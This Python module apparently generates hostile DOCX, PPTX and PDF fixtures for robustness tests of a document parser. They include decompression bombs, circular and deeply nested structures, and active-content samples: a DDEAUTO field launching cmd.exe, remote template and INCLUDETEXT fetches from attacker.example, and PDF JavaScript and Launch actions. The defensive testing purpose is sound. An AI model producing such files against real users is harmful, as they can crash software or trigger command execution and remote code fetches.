"""Hostile papers and slides: loops in their structure, nesting, passwords, programs."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Sequence

from reportlab.pdfgen import canvas

from .hostile import container, hostile, part, repeated, sound

MIB = 1 << 20
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/main"


def _word(body: bytes, times: int = 1, tail: bytes = b"") -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}"><w:body>'.encode()
    made = repeated(head, body, times, tail + b"</w:body></w:document>")
    return container(sound("a.docx"), {"word/document.xml": made})


def _beside(name: str, xml: bytes, body: bytes = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>") -> bytes:
    """A document with a further part, called by its kind."""
    link = f'<Relationships><Relationship Id="r1" Type="{OFFICE}/{name}" Target="{name}.xml"/></Relationships>'
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:{name} xmlns:w="{WORD}">'.encode()
    whole = head + xml + f"</w:{name}>".encode()
    return container(_word(body), {f"word/{name}.xml": whole, "word/_rels/document.xml.rels": link.encode()})


@hostile("read", "a.docx")
def styles_based_on_each_other() -> bytes:
    style = '<w:style w:styleId="{}"><w:basedOn w:val="{}"/><w:rPr>{}</w:rPr></w:style>'
    styles = style.format("A", "B", "") + style.format("B", "C", "<w:vanish/>") + style.format("C", "A", "")
    return _beside("styles", styles.encode(), b'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>')


@hostile("read", "a.docx")
def a_long_chain_of_styles() -> bytes:
    style = '<w:style w:styleId="s{}"><w:basedOn w:val="s{}"/></w:style>'
    styles = "".join(style.format(number, number + 1) for number in range(5_000))
    return _beside("styles", styles.encode() + b'<w:style w:styleId="s5000"><w:rPr><w:vanish/></w:rPr></w:style>')


@hostile("over-limit bomb", "a.docx")
def three_hundred_thousand_paragraphs() -> bytes:
    return _word(b"<w:p><w:r><w:t>some text</w:t></w:r></w:p>", 90_000, b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 210_000)


@hostile("read over-limit", "a.docx", slow=True)
def a_table_of_many_cells() -> bytes:
    row = b"<w:tr>" + b"<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 60 + b"</w:tr>"
    rng = random.Random(4)
    salt = b"".join(b"<w:p><w:r><w:t>%x</w:t></w:r></w:p>" % rng.getrandbits(64) for _ in range(5_000))
    return _word(b"<w:tbl>" + row * 3_000 + b"</w:tbl>" + salt)


@hostile("read over-limit", "a.docx")
def tables_in_tables_of_word() -> bytes:
    opened, closed = b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>", b"</w:tc></w:tr></w:tbl>"
    return _word(opened * 20_000 + closed * 20_000)


@hostile("read over-limit corrupt bomb", "a.docx")
def cells_that_span_everything() -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr><w:p/></w:tc>'
    return _word(b"<w:tbl>" + (b"<w:tr>" + cell * 20 + b"</w:tr>") * 5_000 + b"</w:tbl>")


@hostile("read over-limit", "a.docx", slow=True)
def cells_merged_down_thousands_of_rows() -> bytes:
    cell = b"<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    return _word(b"<w:tbl>" + (b"<w:tr>" + cell * 3 + b"</w:tr>") * 20_000 + b"</w:tbl>")


@hostile("read over-limit", "a.docx")
def runs_in_runs() -> bytes:
    return _word(b"<w:p>" + b"<w:ins><w:r>" * 100_000 + b"<w:t>x</w:t>" + b"</w:r></w:ins>" * 100_000 + b"</w:p>")


@hostile("read over-limit corrupt", "a.docx")
def text_boxes_in_text_boxes() -> bytes:
    opened = b"<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>some text</w:t></w:r></w:p>"
    return _word(opened * 3_000 + b"</w:txbxContent></w:pict></w:r></w:p>" * 3_000)


@hostile("read over-limit", "a.docx")
def many_tables_with_text_boxes() -> bytes:
    box = b"<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
    return _word(b"<w:tbl><w:tr><w:tc>" + box * 40_000 + b"</w:tc></w:tr></w:tbl>")


@hostile("read over-limit", "a.docx")
def fields_that_act() -> bytes:
    codes = ("DDEAUTO cmd.exe '/k calc'", "INCLUDETEXT 'http://attacker.example/a.docx'", "MACROBUTTON x y")
    fields = "".join(f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>" for code in codes)
    return _word(fields.encode() + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>")


@hostile("read", "a.docx")
def a_template_from_outside() -> bytes:
    where = 'Target="http://attacker.example/a.dotm" TargetMode="External"'
    link = f'<Relationships><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" {where}/></Relationships>'
    return container(sound("a.docx"), {"word/_rels/document.xml.rels": link.encode()})


@hostile("over-limit", "a.pptx")
def one_slide_listed_ten_thousand_times() -> bytes:
    made = sound("a.pptx")
    xml = part(made, "ppt/presentation.xml")
    start = xml.find(b"<p:sldId ")
    one = xml[start : xml.find(b"/>", start) + 2]
    assert one.startswith(b"<p:sldId ")
    return container(made, {"ppt/presentation.xml": xml.replace(one, one * 10_000)})


@hostile("read over-limit", "a.pptx", slow=True)
def one_big_slide_listed_three_hundred_times() -> bytes:
    made = sound("a.pptx")
    xml, slide = part(made, "ppt/presentation.xml"), part(made, "ppt/slides/slide1.xml")
    start = xml.find(b"<p:sldId ")
    one = xml[start : xml.find(b"/>", start) + 2]
    paragraphs = b"<a:p><a:r><a:t>some text</a:t></a:r></a:p>" * 20_000
    big = slide.replace(b"</p:txBody>", paragraphs + b"</p:txBody>")
    return container(made, {"ppt/presentation.xml": xml.replace(one, one * 300), "ppt/slides/slide1.xml": big})


@hostile("read over-limit", "a.pptx")
def groups_in_groups() -> bytes:
    made = sound("a.pptx")
    slide = part(made, "ppt/slides/slide1.xml")
    deep = slide.replace(b"</p:spTree>", b"<p:grpSp><p:x/>" * 50_000 + b"</p:grpSp>" * 50_000 + b"</p:spTree>")
    return container(made, {"ppt/slides/slide1.xml": deep})


@hostile("read over-limit corrupt", "a.pptx")
def boxes_without_end() -> bytes:
    made = sound("a.pptx")
    slide = part(made, "ppt/slides/slide1.xml").replace(b"</p:spTree>", b"%s</p:spTree>")
    box = b'<p:sp><p:nvSpPr/><p:spPr><a:xfrm><a:off x="%d" y="%d"/></a:xfrm></p:spPr><p:txBody><a:p/></p:txBody></p:sp>'
    return container(made, {"ppt/slides/slide1.xml": slide % (box % (10**4000, -(10**4000)) * 20)})


def _pdf(objects: Sequence[bytes], more: bytes = b"") -> bytes:
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, written in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, more, start)
    return bytes(made)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


CATALOG, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>"
)
FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _drawn(code: bytes, *more: bytes, packed: bytes = b"") -> bytes:
    stream = _stream(packed, b"/Filter /FlateDecode") if packed else _stream(code)
    return _pdf([CATALOG, PAGES, PAGE, stream, FONT, *more])


@hostile("corrupt read over-limit truncated", "a.pdf")
def pages_in_a_circle() -> bytes:
    pages = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000 /Parent 3 0 R >>"
    return _pdf([CATALOG, pages, b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 1000 /Parent 2 0 R >>"])


@hostile("over-limit corrupt read", "a.pdf")
def pages_that_count_billions() -> bytes:
    return _pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", PAGE, _stream(b""), FONT])


@hostile("corrupt read over-limit truncated", "a.pdf")
def pages_nested_very_deep() -> bytes:
    deep = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(2, 50_000)]
    return _pdf([CATALOG, *deep, PAGE])


@hostile("corrupt read over-limit truncated", "a.pdf")
def drawings_in_a_circle() -> bytes:
    return _drawn(b"/X Do " * 1_000, _stream(b"/X Do /X Do /X Do", FORM % 6))


@hostile("corrupt read over-limit", "a.pdf")
def drawings_that_multiply() -> bytes:
    drawn = [b"/X Do " * 10] * 12 + [b"BT /F1 9 Tf (some text) Tj ET"]
    return _drawn(b"/X Do " * 10, *(_stream(code, FORM % number) for number, code in enumerate(drawn, 7)))


@hostile("corrupt read over-limit", "a.pdf")
def a_page_that_unpacks_a_thousandfold() -> bytes:
    return _drawn(b"", packed=zlib.compress(b"0 0 m 1 1 l S\n" * (200 * MIB // 14), 9))


@hostile("corrupt read over-limit", "a.pdf")
def a_page_packed_ten_times() -> bytes:
    data = b"BT /F1 12 Tf (x) Tj ET " * (20 * MIB // 23)
    for _ in range(8):
        data = zlib.compress(data, 9)
    return _pdf([CATALOG, PAGES, PAGE, _stream(data, b"/Filter [" + b"/FlateDecode " * 8 + b"]"), FONT])


@hostile("over-limit corrupt", "a.pdf")
def a_page_of_millions_of_characters() -> bytes:
    words = b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 300_000
    return _drawn(b"", packed=zlib.compress(b"BT /F1 12 Tf " + words + b"ET", 9))


@hostile("over-limit corrupt read", "a.pdf", slow=True)
def a_page_of_a_million_words() -> bytes:
    words = b"(a b c d e f g h i j k l m n) Tj " * 33_000
    return _drawn(b"", packed=zlib.compress(b"BT /F1 12 Tf 1 0 0 1 9 9 Tm " + words + b"ET", 9))


@hostile("over-limit corrupt read", "a.pdf")
def white_words_on_a_page_of_kilometres() -> bytes:
    page = PAGE.replace(b"612 792", b"200000 200000")
    code = b"1 1 1 rg BT /F1 12 Tf " + b"1 0 0 1 9 9 Tm (white) Tj " * 5_000 + b"ET"
    return _pdf([CATALOG, PAGES, page, _stream(code), FONT])


@hostile("over-limit corrupt read", "a.pdf", slow=True)
def white_words_on_a_busy_page() -> bytes:
    code = b"1 1 1 rg BT /F1 12 Tf (white) Tj ET " + b"0 0 612 792 re f 1 0 0 RG 0 0 m 600 700 l S\n" * 200_000
    return _pdf([CATALOG, PAGES, PAGE, _stream(code), FONT])


@hostile("over-limit corrupt read", "a.pdf")
def a_picture_of_billions_of_pixels_on_a_page() -> bytes:
    size = b"/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    image = _stream(b"x", b"/Type /XObject /Subtype /Image " + size)
    return _drawn(b"q 612 0 0 792 0 0 cm /X Do Q 1 1 1 rg BT /F1 12 Tf 9 9 Td (white) Tj ET", image)


@hostile("over-limit read", "a.pdf")
def hundreds_of_thousands_of_remarks() -> bytes:
    page = PAGE.replace(b"/Contents", b"/Annots [" + b"6 0 R " * 250_000 + b"] /Contents")
    remark = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (some text) >>"
    return _pdf([CATALOG, PAGES, page, _stream(b""), FONT, remark])


@hostile("over-limit read corrupt", "a.pdf")
def fields_in_a_circle() -> bytes:
    root = CATALOG.replace(b">>", b"/AcroForm << /Fields [6 0 R] >> >>")
    page = PAGE.replace(b"/Contents", b"/Annots [6 0 R 7 0 R] /Contents")
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V 6 0 R /Parent %d 0 R /Kids [6 0 R 7 0 R] >>"
    return _pdf([root, PAGES, page, _stream(b""), FONT, field % 7, field % 6])


@hostile("read corrupt", "a.pdf")
def a_page_with_a_program() -> bytes:
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://attacker.example'\\)) >> >>"
    launch = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
    page = PAGE.replace(b"/Contents", b"/Annots [6 0 R] /Contents")
    text = _stream(b"BT /F1 12 Tf 72 720 Td (text) Tj ET")
    return _pdf([CATALOG.replace(b">>", action), PAGES, page, text, FONT, launch])


@hostile("corrupt truncated read over-limit", "a.pdf")
def a_table_of_places_in_a_circle() -> bytes:
    made = _drawn(b"BT /F1 12 Tf (x) Tj ET")
    at = made.rfind(b"startxref\n") + 10
    place = made[at : made.find(b"\n", at)]
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + place)


@hostile("corrupt truncated read over-limit", "a.pdf")
def arrays_in_arrays() -> bytes:
    return _pdf([CATALOG.replace(b">>", b"/X " + b"[" * 3_000_000 + b">>"), PAGES, PAGE])


@hostile("encrypted", "a.pdf")
def a_locked_paper() -> bytes:
    target = io.BytesIO()
    page = canvas.Canvas(target, encrypt="secret")
    page.drawString(100, 700, "hello")
    page.save()
    return target.getvalue()


@hostile("over-limit", "a.pdf")
def a_thousand_pages() -> bytes:
    kids = b"".join(b"3 0 R " for _ in range(1_000))
    return _pdf([CATALOG, b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000 >>", PAGE, _stream(b""), FONT])
